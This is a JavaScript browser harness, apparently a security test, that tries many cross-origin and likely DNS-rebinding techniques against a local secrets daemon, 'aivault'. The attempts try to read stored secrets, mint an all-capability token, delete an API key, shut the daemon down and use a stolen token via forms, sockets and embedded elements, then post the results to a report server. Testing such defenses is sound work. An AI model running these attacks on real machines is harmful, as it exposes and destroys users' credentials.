// What a web page can do to a server on the machine of whoever visits it, without asking anybody. It runs
// in a real browser; `CONFIG` stands before it: the token it has got hold of, and where to report.

const WAIT_MS = 5_000;

/** The outcome of `begin`, which calls back; or that nothing came of it. */
function outcome(begin) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve("nothing"), WAIT_MS);
    begin((result) => {
      clearTimeout(timer);
      resolve(String(result));
    });
  });
}

/** An element that fetches something by being in the page. */
function element(name, attributes) {
  return outcome((done) => {
    const made = document.createElement(name);
    made.onload = () => done("loaded");
    made.onerror = () => done("failed");
    Object.assign(made, attributes);
    document.body.append(made);
  });
}

/** A form that is sent into a frame. */
function form(action, method, enctype, fields) {
  return outcome((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame-${Math.random()}`;
    const made = document.createElement("form");
    Object.assign(made, { action, method, enctype, target: frame.name });
    // A form that is sent as a query drops the one that its address has.
    for (const [name, value] of [...new URL(action).searchParams, ...Object.entries(fields)]) {
      const field = document.createElement("input");
      Object.assign(field, { name, value });
      made.append(field);
    }
    document.body.append(frame, made);
    frame.onload = () => {
      try {
        done(frame.contentDocument?.body.textContent ?? "opaque");
      } catch {
        done("opaque");
      }
    };
    made.submit();
  });
}

function request(url, options) {
  return outcome((done) => {
    fetch(url, options).then(
      async (response) => done(`${response.type} ${response.status} ${await response.text()}`),
      () => done("failed"),
    );
  });
}

const ENVELOPE = JSON.stringify({
  capability: "openai/models",
  request: { method: "GET", path: "/v1/models" },
});
const JSON_TYPE = { "content-type": "application/json" };
const BEARER = { authorization: `Bearer ${CONFIG.token}` };
const STOLEN = `/v/openai/v1/models?key=${CONFIG.token}`;

/** Every way in, by name. `url` makes an address of a path at the server under attack. */
const ATTEMPTS = {
  "fetch of health": (url) => request(url("/aivault/health")),
  "fetch of the operator's secrets": (url) => request(url("/aivault/secrets")),
  "no-cors fetch with a token": (url) => request(url(STOLEN), { mode: "no-cors" }),
  "simple POST of an envelope": (url) =>
    request(url("/aivault/proxy"), { method: "POST", mode: "no-cors", body: ENVELOPE }),
  "preflighted POST with a token": (url) =>
    request(url("/aivault/proxy"), {
      method: "POST",
      headers: { ...JSON_TYPE, ...BEARER },
      body: ENVELOPE,
    }),
  "preflighted POST that mints a token": (url) =>
    request(url("/aivault/tokens"), {
      method: "POST",
      headers: JSON_TYPE,
      body: '{"capabilities":["*"]}',
    }),
  "preflighted DELETE of a secret": (url) =>
    request(url("/aivault/secrets/OPENAI_API_KEY"), { method: "DELETE" }),
  "POST that shuts the daemon down": (url) =>
    request(url("/aivault/shutdown"), { method: "POST", mode: "no-cors" }),
  "form as a query": (url) => form(url("/v/openai/v1/models"), "GET", "", { key: CONFIG.token }),
  "form, multipart": (url) =>
    form(url("/aivault/proxy"), "POST", "multipart/form-data", { envelope: ENVELOPE }),
  "form, as plain text": (url) =>
    form(url("/aivault/proxy"), "POST", "text/plain", { [`${ENVELOPE.slice(0, -1)},"x":"`]: '"}' }),
  WebSocket: (url) =>
    outcome((done) => {
      const socket = new WebSocket(url("/aivault/ws").replace(/^http/, "ws"));
      socket.onopen = () => done("open");
      socket.onerror = () => done("failed");
    }),
  "WebSocket with a token": (url) =>
    outcome((done) => {
      const address = url(`/v/openai/v1/realtime?model=m&key=${CONFIG.token}`);
      const socket = new WebSocket(address.replace(/^http/, "ws"), ["realtime"]);
      socket.onopen = () => done("open");
      socket.onerror = () => done("failed");
    }),
  "EventSource with a token": (url) =>
    outcome((done) => {
      const source = new EventSource(url(STOLEN));
      source.onopen = () => done("open");
      source.onerror = () => {
        source.close();
        done("failed");
      };
    }),
  "img with a token": (url) => element("img", { src: url(STOLEN) }),
  "script with a token": (url) => element("script", { src: url(STOLEN) }),
  "style sheet with a token": (url) => element("link", { rel: "stylesheet", href: url(STOLEN) }),
  "frame with a token": (url) =>
    outcome((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try {
          done(frame.contentDocument?.body.textContent ?? "opaque");
        } catch {
          done("opaque");
        }
      };
      frame.src = url(STOLEN);
      document.body.append(frame);
    }),
  beacon: (url) => outcome((done) => done(navigator.sendBeacon(url("/aivault/proxy"), ENVELOPE))),
};

async function attack({ name, base, marked }) {
  const outcomes = {};
  await Promise.all(
    Object.entries(ATTEMPTS).map(async ([attempt, act]) => {
      const mark = (path) => `${path}${path.includes("?") ? "&" : "?"}attempt=${attempt}`;
      const url = (path) => base + (marked ? mark(path) : path);
      outcomes[attempt] = await act(url).catch((error) => `threw ${error.message}`);
    }),
  );
  return [name, outcomes];
}

async function main() {
  // What this name of ours led to has gone by the time this is answered; something else is there.
  const targets = await (await fetch(`${CONFIG.report}/targets`)).json();
  const results = [];
  for (const target of targets) results.push(await attack(target));
  await fetch(`${CONFIG.report}/results`, {
    method: "POST",
    body: JSON.stringify(Object.fromEntries(results)),
  });
}

main().catch((error) =>
  fetch(`${CONFIG.report}/results`, { method: "POST", body: JSON.stringify(String(error)) }),
);
